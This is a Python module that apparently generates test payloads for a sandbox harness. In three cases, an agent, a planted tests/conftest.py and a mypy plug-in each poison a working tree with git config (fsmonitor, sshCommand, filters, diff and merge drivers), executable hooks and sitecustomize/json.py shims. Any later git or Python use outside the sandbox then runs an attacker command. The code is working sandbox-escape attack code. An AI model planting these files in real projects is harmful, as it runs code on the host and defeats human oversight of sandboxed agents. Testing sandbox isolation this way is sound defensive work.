"""What a child leaves in its tree from inside the sandbox, for a program that looks at that tree later, outside of it."""

from beside_payload import payload

KIND = "left by children"
TAMPER = '''
import os, shutil, subprocess, sys

NAME = {name!r}
CONFIG = """{config}"""
HOOK = {hook!r}


def tamper(tree):
    """Make the tree's own repository, or the one that it is linked to, one that starts programs."""
    for path in (os.path.join(tree, ".git"),):
        try:
            link = open(path).read().partition(":")[2].strip() if os.path.isfile(path) else path
        except OSError:
            link = path
        for folder in (link, os.path.join(link, "..", "..")):
            put(os.path.join(folder, "config"), CONFIG)
            put(os.path.join(folder, "config.worktree"), CONFIG)
            put(os.path.join(folder, "info/attributes"), "* filter=left diff=left merge=left\\n")
        try:
            os.unlink(path) if not os.path.isdir(path) else shutil.rmtree(path)
        except OSError:
            pass
        subprocess.run(["git", "init", "-q", tree], capture_output=True)
        put(os.path.join(path, "config"), CONFIG)
        os.makedirs(os.path.join(path, "info"), exist_ok=True)
        put(os.path.join(path, "info/attributes"), "* filter=left diff=left merge=left\\n")
        for name in ("post-checkout", "post-index-change", "pre-commit", "reference-transaction", "post-commit"):
            hook = os.path.join(path, "hooks", name)
            put(hook, HOOK)
            os.path.exists(hook) and os.chmod(hook, 0o755)
    put(os.path.join(tree, ".gitattributes"), "* filter=left diff=left merge=left\\n")
    for name in ("sitecustomize.py", "usercustomize.py", "json.py"):
        put(os.path.join(tree, name), {python!r})


def put(path, text):
    try:
        with open(path, "a") as file:
            file.write("\\n" + text)
    except OSError:
        pass


tamper(os.getcwd())
'''
SETTINGS = """[core]
\tfsmonitor = {command}
\tsshCommand = {command}
\thooksPath = .git/hooks
[url "ssh://example.org/"]
\tinsteadOf = /
[filter "left"]
\tclean = {command}
\tsmudge = {command}
[diff]
\texternal = {command}
[diff "left"]
\ttextconv = {command}
\tcommand = {command}
[merge "left"]
\tdriver = {command}
"""


def tamper(plant):
    config = SETTINGS.format(command=plant.quoted).replace("\\", "\\\\")
    return TAMPER.format(name=plant.name, config=config, hook=plant.script(), python=plant.python)


@payload(
    "an agent makes its tree a hostile repository",
    kind=KIND,
    control="cp -r . ../left1; cd ../left1; rm -rf .git; python3 tools/obey.py; git status; git add -A",
)
def agent(plant):
    plant.write("tools/obey.py", tamper(plant))


@payload(
    "a check makes its tree a hostile repository",
    kind=KIND,
    control="cp -r . ../left2; cd ../left2; rm -rf .git; python3 tests/conftest.py; git status; git add -A",
)
def check(plant):
    plant.write("tests/conftest.py", tamper(plant))


@payload(
    "an analyzer's plug-in makes its tree a hostile repository",
    kind=KIND,
    control="cp -r . ../left3; cd ../left3; rm -rf .git; python3 tools/left_plugin.py; git status; git add -A",
)
def plugin(plant):
    plant.write("mypy.ini", "[mypy]\nplugins = tools/left_plugin.py\n")
    plant.write(
        "tools/left_plugin.py",
        f"{tamper(plant)}\n\ndef plugin(version):\n    from mypy.plugin import Plugin\n    return Plugin\n",
    )
